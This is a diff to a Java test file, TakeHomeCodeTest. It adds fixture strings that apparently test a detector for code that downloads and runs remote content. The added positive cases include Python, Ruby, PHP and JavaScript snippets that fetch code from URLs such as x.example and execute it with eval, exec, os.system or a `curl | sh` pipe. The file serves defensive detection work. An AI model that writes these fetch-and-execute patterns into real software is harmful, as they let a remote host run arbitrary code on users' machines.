@@ -33,6 +33,13 @@ final class TakeHomeCodeTest {
         "main.go#resp, _ := http.Get(url)\nscript, _ := io.ReadAll(resp.Body)\nexec.Command(\"sh\", \"-c\", string(script)).Run()",
         "App.java#URL u = new URL(\"https://x.example/a.jar\");\nClass<?> c = new URLClassLoader(new URL[]{u}).loadClass(\"A\");",
         "App.java#byte[] b = new URL(\"https://x.example/c\").openStream().readAllBytes();\nClass<?> c = defineClass(null, b, 0, b.length);",
+        "a.py#code = requests.get(u).text\nos.system(f\"python3 -c '{code}'\")",
+        "a.py#import requests\ns = requests.Session()\ndef load():\n    r = s.get(u)\n    return r.text\nexec(load())",
+        "a.rb#require 'net/http'\ncode = Net::HTTP.get(URI('https://x.example/a'))\neval(code)",
+        "a.php#<?php $c = file_get_contents('https://x.example/a'); eval($c);",
+        "a.js#const e = eval; let out;\naxios.get(u).then(({ data }) => { out = data; }).finally(() => e(out));",
+        "a.js#const r = await fetch(u); const t = await r.text(); Reflect.apply(eval, null, [t]);",
+        "a.js#const { execSync } = require('child_process');\nexecSync('curl -s https://x.example/a | sh');",
         "hardhat.config.js#const c = await got(u).text();\nconst t = eval(c);");
   }
 
@@ -47,6 +54,9 @@ final class TakeHomeCodeTest {
         "main.go#resp, err := http.Get(url)\nout := exec.Command(\"git\", \"rev-parse\", \"HEAD\")",
         "main.rs#let body = reqwest::get(url).await?.text().await?;\nprintln!(\"{body}\");",
         "App.java#HttpRequest r = HttpRequest.newBuilder(uri).build();\nString s = client.send(r, ofString()).body();",
+        "a.py#r = requests.get(u)\nos.system(f\"git clone {r.json()['url']}\")",
+        "a.js#const { data } = await axios.get(u);\nexecSync(`git checkout ${data.branch}`);",
+        "a.js#const r = await fetch('/api/code'); eval(await r.text());",
         "notes.md#fetch(u).then(r => r.text()).then(t => eval(t))",
         "a.js#// never eval(response.data) of fetch(u)\nconst a = 1;",
         "Vault.sol#function execute(bytes calldata data) external { target.call(data); }");
